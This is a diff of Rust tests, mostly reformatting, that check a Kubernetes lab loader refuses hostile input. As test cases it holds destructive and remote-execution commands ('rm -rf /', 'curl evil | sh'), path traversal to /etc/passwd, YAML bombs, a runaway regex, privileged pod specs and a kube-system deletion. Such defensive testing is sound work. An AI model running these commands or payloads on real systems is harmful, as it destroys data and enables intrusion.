@@ -47,12 +47,8 @@ do:
       selector: {matchLabels: {app: web}}
       template: {metadata: {labels: {app: web}}, spec: {containers: [{name: web, image: 'nginx:1.29'}]}}
 ";
-const FILES: [(&str, &str); 4] = [
-    ("lab.yaml", GOOD),
-    ("setup/a.yaml", SETUP),
-    ("solution/01-web.yaml", SOLUTION),
-    ("images.txt", "nginx:1.29\n"),
-];
+const FILES: [(&str, &str); 4] =
+    [("lab.yaml", GOOD), ("setup/a.yaml", SETUP), ("solution/01-web.yaml", SOLUTION), ("images.txt", "nginx:1.29\n")];
 
 /// The good lab with some files replaced or added.
 fn write(folder: &Path, files: &[(&str, Vec<u8>)]) {
@@ -64,12 +60,12 @@ fn write(folder: &Path, files: &[(&str, Vec<u8>)]) {
     }
 }
 
-/// Loads with the watchdog beside it.
+/// Loads with the watchdog beside it: it must end, and not panic.
 fn load(folder: &Path) -> (Option<Lab>, Vec<Problem>) {
     let (send, loaded) = mpsc::channel();
     let labs = Tree::Folder(folder.to_owned());
-    std::thread::spawn(move || send.send(lab::load(&labs, "lab")));
-    loaded.recv_timeout(WATCHDOG).expect("it ends, and does not panic")
+    std::thread::spawn(move || drop(send.send(lab::load(&labs, "lab"))));
+    loaded.recv_timeout(WATCHDOG).unwrap()
 }
 
 /// What is said of such a lab; it must not load.
@@ -126,14 +122,27 @@ fn commands_are_words_and_never_a_line_for_a_shell() {
     refused("a shell line as argv", &step("rm -rf / --no-preserve-root"), "목록이 와야 하는데");
     refused("no argv", &step("[]"), "argv");
     refused("a map as argv", &step("{run: reboot}"), "목록이 와야 하는데");
-    spoiled("an action that runs a script", "lab.yaml", "apply: setup/a.yaml", "run: scripts/a.sh", "모르는 동작이에요: run");
-    spoiled("a check that runs a script", "lab.yaml", "    match:", "    script: curl evil | sh\n    match:", "모르는 필드예요: script");
+    spoiled(
+        "an action that runs a script",
+        "lab.yaml",
+        "apply: setup/a.yaml",
+        "run: scripts/a.sh",
+        "모르는 동작이에요: run",
+    );
+    spoiled(
+        "a check that runs a script",
+        "lab.yaml",
+        "    match:",
+        "    script: curl evil | sh\n    match:",
+        "모르는 필드예요: script",
+    );
 }
 
 #[test]
 fn no_path_leads_out_of_the_folder() {
     let apply = |path: &str| vec![("lab.yaml", GOOD.replace("apply: setup/a.yaml", &format!("apply: {path}")))];
-    for path in ["../../../etc/passwd", "/etc/passwd", "setup/../../secret.yaml", "\"setup/\\0.yaml\"", "C:\\\\secret"] {
+    for path in ["../../../etc/passwd", "/etc/passwd", "setup/../../secret.yaml", "\"setup/\\0.yaml\"", "C:\\\\secret"]
+    {
         refused(&format!("apply {path}"), &apply(path), "lab/lab.yaml");
     }
     let config = |path: &str| GOOD.replace("  owns:", &format!("  cluster: {{config: {path}}}\n  owns:"));
@@ -161,16 +170,29 @@ fn yaml_bombs_burst_in_the_budget() {
         let many = vec![format!("*a{}", n - 1); 10].join(", ");
         laughs += &format!("a{n}: &a{n} [{many}]\n");
     }
-    let params = |text: &str| GOOD.replace("  owns:", &format!("  params:\n    {}\n  owns:", text.replace('\n', "\n    ")));
+    let params =
+        |text: &str| GOOD.replace("  owns:", &format!("  params:\n    {}\n  owns:", text.replace('\n', "\n    ")));
     refused("a billion laughs", &[("lab.yaml", params(&laughs))], "lab/lab.yaml");
     refused("a thousand laughs in the setup", &[("setup/a.yaml", laughs)], "lab/setup/a.yaml");
     refused("ten thousand brackets", &[("setup/a.yaml", "[".repeat(10_000))], "lab/setup/a.yaml");
-    refused("ten thousand indents", &[("setup/a.yaml", (0..10_000).map(|n| format!("{}a:\n", " ".repeat(n % 900))).collect())], "lab/setup/a.yaml");
-    refused("a million keys", &[("setup/a.yaml", (0..1_000_000).map(|n| format!("k{n}: 1\n")).collect())], "lab/setup/a.yaml");
+    refused(
+        "ten thousand indents",
+        &[("setup/a.yaml", (0..10_000).map(|n| format!("{}a:\n", " ".repeat(n % 900))).collect())],
+        "lab/setup/a.yaml",
+    );
+    refused(
+        "a million keys",
+        &[("setup/a.yaml", (0..1_000_000).map(|n| format!("k{n}: 1\n")).collect())],
+        "lab/setup/a.yaml",
+    );
     refused("a hundred thousand documents", &[("setup/a.yaml", "---\na: 1\n".repeat(100_000))], "lab/setup/a.yaml");
     refused("an alias of itself", &[("setup/a.yaml", "&a [*a]\n".into())], "lab/setup/a.yaml");
     refused("a file larger than any", &[("setup/a.yaml", "# x\n".repeat(5 << 20))], "lab/setup/a.yaml");
-    refused("bytes that are no text", &[("setup/a.yaml", "\u{0}\u{1}\u{feff}%TAG ! !\n!!binary |\n".into())], "lab/setup/a.yaml");
+    refused(
+        "bytes that are no text",
+        &[("setup/a.yaml", "\u{0}\u{1}\u{feff}%TAG ! !\n!!binary |\n".into())],
+        "lab/setup/a.yaml",
+    );
 }
 
 #[test]
@@ -186,18 +208,22 @@ fn expressions_stay_within_their_caps() {
     refused("a large expression", &cel(&["1"; 990].join("+")), "식이");
     refused("a function that nobody has", &cel("object.spec.exec('reboot')"), "모르는 함수예요: exec");
     refused("a name that nobody has", &cel("env.HOME == '/root'"), "모르는 이름이에요: env");
-    let regex = |pattern: &str| vec![("lab.yaml", GOOD.replace("{replicas: 3}", &format!("{{image: {{$regex: '{pattern}'}}}}")))];
+    let regex = |pattern: &str| {
+        vec![("lab.yaml", GOOD.replace("{replicas: 3}", &format!("{{image: {{$regex: '{pattern}'}}}}")))]
+    };
     refused("a regular expression of gigabytes", &regex("(((a{1000}){1000}){1000}){1000}"), "정규식");
 }
 
 #[test]
 fn powers_are_declared_or_refused() {
-    let pod = |spec: &str| {
-        format!("{{apiVersion: v1, kind: Pod, metadata: {{name: p, namespace: shop}}, spec: {spec}}}\n")
-    };
+    let pod =
+        |spec: &str| format!("{{apiVersion: v1, kind: Pod, metadata: {{name: p, namespace: shop}}, spec: {spec}}}\n");
     let container = "{name: c, image: 'nginx:1.29'}";
     for (power, spec) in [
-        ("privileged", "{containers: [{name: c, image: 'nginx:1.29', securityContext: {privileged: true}}]}".to_owned()),
+        (
+            "privileged",
+            "{containers: [{name: c, image: 'nginx:1.29', securityContext: {privileged: true}}]}".to_owned(),
+        ),
         ("hostPath", format!("{{containers: [{container}], volumes: [{{name: root, hostPath: {{path: /}}}}]}}")),
         ("hostPID", format!("{{hostPID: true, containers: [{container}]}}")),
         ("hostIPC", format!("{{hostIPC: true, containers: [{container}]}}")),
@@ -228,11 +254,29 @@ fn what_is_the_clusters_is_not_the_labs() {
     for namespace in ["kube-system", "kube-public", "kube-node-lease", "default", "jotasu-system"] {
         spoiled(namespace, "lab.yaml", "[shop]", &format!("[shop, {namespace}]"), "가질 수 없는 namespace예요");
     }
-    set_up("an object in kube-system", "{apiVersion: v1, kind: ConfigMap, metadata: {name: a, namespace: kube-system}}\n", "lab/setup/a.yaml");
-    set_up("an object in a namespace of nobody", "{apiVersion: v1, kind: ConfigMap, metadata: {name: a, namespace: bank}}\n", "lab/setup/a.yaml");
-    set_up("a ClusterRole", "{apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, metadata: {name: all}}\n", "lab/setup/a.yaml");
+    set_up(
+        "an object in kube-system",
+        "{apiVersion: v1, kind: ConfigMap, metadata: {name: a, namespace: kube-system}}\n",
+        "lab/setup/a.yaml",
+    );
+    set_up(
+        "an object in a namespace of nobody",
+        "{apiVersion: v1, kind: ConfigMap, metadata: {name: a, namespace: bank}}\n",
+        "lab/setup/a.yaml",
+    );
+    set_up(
+        "a ClusterRole",
+        "{apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, metadata: {name: all}}\n",
+        "lab/setup/a.yaml",
+    );
     set_up("a Node", "{apiVersion: v1, kind: Node, metadata: {name: jotasu-worker}}\n", "lab/setup/a.yaml");
-    spoiled("Nodes as owned objects", "lab.yaml", "{namespaces: [shop]}", "{namespaces: [shop], objects: [{kind: Node, prefix: jotasu}]}", "objects에 적을 수 없는 kind");
+    spoiled(
+        "Nodes as owned objects",
+        "lab.yaml",
+        "{namespaces: [shop]}",
+        "{namespaces: [shop], objects: [{kind: Node, prefix: jotasu}]}",
+        "objects에 적을 수 없는 kind",
+    );
     spoiled("a lab of another name", "lab.yaml", "{name: lab}", "{name: ../other}", "이름이 폴더 이름과 달라요");
     let other = "turns: [web]\ndo:\n- delete: {target: {apiVersion: v1, kind: Namespace, name: kube-system}}\n";
     refused("a solution that deletes kube-system", &[("solution/01-web.yaml", other.into())], "solution/01-web.yaml");
@@ -243,12 +287,20 @@ fn what_is_the_clusters_is_not_the_labs() {
 #[test]
 fn many_and_large_things_take_bounded_time() {
     // Ten megabytes are read and end as what they are: a lab that no server would take, or problems.
-    let large = format!("{{apiVersion: v1, kind: ConfigMap, metadata: {{name: a, namespace: shop}}, data: {{x: '{}'}}}}\n", "y".repeat(10 << 20));
+    let large = format!(
+        "{{apiVersion: v1, kind: ConfigMap, metadata: {{name: a, namespace: shop}}, data: {{x: '{}'}}}}\n",
+        "y".repeat(10 << 20)
+    );
     let folder = tempfile::tempdir().unwrap();
     write(folder.path(), &[("setup/a.yaml", large.into_bytes())]);
     load(folder.path());
     // Thousands of checks: each with its solution or each a problem.
-    let check = |n: usize| format!("  - name: c{n}\n    title: 확인 {n}\n    needs: [c{}]\n    resource: {{kind: ConfigMap, namespace: shop, name: c{n}}}\n", n.saturating_sub(1));
+    let check = |n: usize| {
+        format!(
+            "  - name: c{n}\n    title: 확인 {n}\n    needs: [c{}]\n    resource: {{kind: ConfigMap, namespace: shop, name: c{n}}}\n",
+            n.saturating_sub(1)
+        )
+    };
     let checks: String = (0..5_000).map(check).collect();
     let folder = tempfile::tempdir().unwrap();
     write(folder.path(), &[("lab.yaml", format!("{GOOD}{checks}").into_bytes())]);
@@ -258,7 +310,8 @@ fn many_and_large_things_take_bounded_time() {
     assert!(lab.is_none() && !problems.is_empty());
     // Thousands of files.
     let folder = tempfile::tempdir().unwrap();
-    let files: Vec<(String, Vec<u8>)> = (0..3_000).map(|n| (format!("wrong/w{n}.yaml"), b"after: 1\nred: [web]\n".to_vec())).collect();
+    let files: Vec<(String, Vec<u8>)> =
+        (0..3_000).map(|n| (format!("wrong/w{n}.yaml"), b"after: 1\nred: [web]\n".to_vec())).collect();
     write(folder.path(), &files.iter().map(|(name, bytes)| (name.as_str(), bytes.clone())).collect::<Vec<_>>());
     assert!(load(folder.path()).0.is_none());
 }
